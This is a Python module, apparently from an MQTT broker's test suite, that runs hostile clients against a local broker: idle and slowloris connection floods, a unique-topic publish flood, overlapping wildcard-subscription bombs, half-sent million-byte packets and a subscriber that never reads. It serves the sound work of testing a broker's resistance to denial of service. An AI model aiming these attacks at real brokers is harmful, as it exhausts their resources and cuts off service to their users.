"""Clients that mean harm, as a program of its own, so that they cost the victims no time.

    python -m process.attacks NAME --port P

Each says "ready" once it is at work and goes on until it is killed.  All of it is legal at the
socket, most of it in MQTT too: what it costs the broker is the point.
"""

import argparse
import resource
import socket
import struct
import sys
import time
from collections.abc import Callable

from fixtures.publisher import text

IDLE = 5000
LORISES = 1000
FLOOD_PER_S = 2000
PART_CONNECTIONS = 300
PART_BYTES = 900_000  # Of a packet of a million, on each of these connections.
BOMBS = 20
FILTERS = 1000  # Of each bomb; what a client may have by default.


def idle(port: int) -> None:
    """Thousands of clients that never say anything more."""
    clients = [connect(port, f"idle-{number}") for number in range(IDLE)]
    ready()
    sleep_with(clients)


def loris(port: int) -> None:
    """Connections that send their first packet a byte at a time, for ever."""
    packet = connect_packet("loris" * 100)
    clients: list[tuple[socket.socket, int]] = []
    while True:
        while len(clients) < LORISES:
            clients.append((socket.create_connection(("127.0.0.1", port)), 0))
        clients = [fed for fed in [feed(client, at, packet) for client, at in clients] if fed]
        if len(clients) == LORISES:
            ready()
        time.sleep(0.5)


def feed(client: socket.socket, at: int, packet: bytes) -> "tuple[socket.socket, int] | None":
    try:
        client.sendall(packet[at : at + 1])
    except OSError:  # The broker has lost its patience: another one takes its place.
        client.close()
        return None
    return client, min(at + 1, len(packet) - 2)


def topics(port: int) -> None:
    """A client that never uses a topic twice, and retains some of it."""
    client = connect(port, "flood")
    client.settimeout(30)
    began_s = time.monotonic()
    sent = 0
    while True:
        due = int((time.monotonic() - began_s) * FLOOD_PER_S)
        packets = [publish(f"flood/{number:x}/{number}", number) for number in range(sent, due)]
        if packets:
            client.sendall(b"".join(packets))
        sent = max(sent, due)
        if sent > FLOOD_PER_S // 4:
            ready()
        client.setblocking(False)
        try:
            while client.recv(1 << 20):
                pass
        except BlockingIOError:
            pass
        client.setblocking(True)
        time.sleep(0.005)


def publish(topic: str, number: int) -> bytes:
    body = text(topic) + struct.pack(">H", number % 65535 + 1) + b"{}"
    return bytes([0x32 | (number % 16 == 0), len(body)]) + body


def bombs(port: int) -> None:
    """Clients that subscribe to as much as they may, all of it overlapping."""
    clients = []
    for bomb in range(BOMBS):
        client = connect(port, f"bomb-{bomb}")
        for number in range(FILTERS):
            levels = ["+" if number >> bit & 1 else "a" for bit in range(10)]
            name = text("/".join([*levels, "#"]))
            body = struct.pack(">H", number + 1) + name + b"\x00"
            client.sendall(bytes([0x82, len(body)]) + body)
        clients.append(client)
    for client in clients:
        got = 0
        while got < 5 * FILTERS:
            part = client.recv(65536)
            if not part:
                break
            got += len(part)
    ready()
    sleep_with(clients)


def parts(port: int) -> None:
    """Connections that each leave a large packet unfinished."""
    head = b"\x30" + bytes([0xC0, 0x84, 0x3D]) + text("big")  # Remaining length 1,000,000.
    filler = bytes(PART_BYTES)
    clients = []
    for number in range(PART_CONNECTIONS):
        try:
            client = connect(port, f"part-{number}")
            client.sendall(head)
            client.setblocking(False)
            client.send(filler)
            clients.append((client, PART_BYTES))
        except OSError:
            continue
    ready()
    end_s = time.monotonic() + 600
    while time.monotonic() < end_s:
        for client, _ in clients:
            try:
                client.send(filler[:4096])
            except OSError:
                continue
        time.sleep(0.05)


def deaf(port: int) -> None:
    """A subscriber of everything that never reads, with small buffers of its own."""
    client = connect(port, "deaf", receive_bytes=4096)
    client.sendall(b"\x82\x06\x00\x01\x00\x01#\x01")
    ready()
    sleep_with([client])


ATTACKS: dict[str, Callable[[int], None]] = {
    "idle": idle, "loris": loris, "topics": topics, "bombs": bombs, "parts": parts, "deaf": deaf
}  # fmt: skip

_said = False


def ready() -> None:
    """Say once that the harm is being done."""
    global _said
    if not _said:
        _said = True
        print("ready", flush=True)


def sleep_with(_clients: "list[socket.socket]") -> None:
    while True:
        time.sleep(60)


def connect_packet(client_id: str, flags: int = 2) -> bytes:
    body = text("MQTT") + bytes([4, flags]) + struct.pack(">H", 0) + text(client_id)
    size = len(body)
    length = bytes([size]) if size < 0x80 else bytes([size & 0x7F | 0x80, size >> 7])
    return b"\x10" + length + body


def connect(
    port: int, client_id: str, receive_bytes: int = 0, packet: bytes = b""
) -> socket.socket:
    sock = socket.socket()
    if receive_bytes:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
    sock.settimeout(30)
    sock.connect(("127.0.0.1", port))
    sock.sendall(packet or connect_packet(client_id))
    answer = b""
    while len(answer) < 4:
        part = sock.recv(4 - len(answer))
        if not part:
            raise ConnectionError(f"{client_id}: closed")
        answer += part
    if answer[3]:
        raise ConnectionError(f"{client_id}: refused with {answer[3]}")
    return sock


def run(attacks: "dict[str, Callable[[int], None]]") -> None:
    """Run the attack that the command line names."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("name", choices=sorted(attacks))
    parser.add_argument("--port", type=int, required=True)
    options = parser.parse_args()
    _soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    try:
        attacks[options.name](options.port)
    except (OSError, KeyboardInterrupt) as error:
        print(f"the attack has ended: {error}", file=sys.stderr)


if __name__ == "__main__":
    run(ATTACKS)
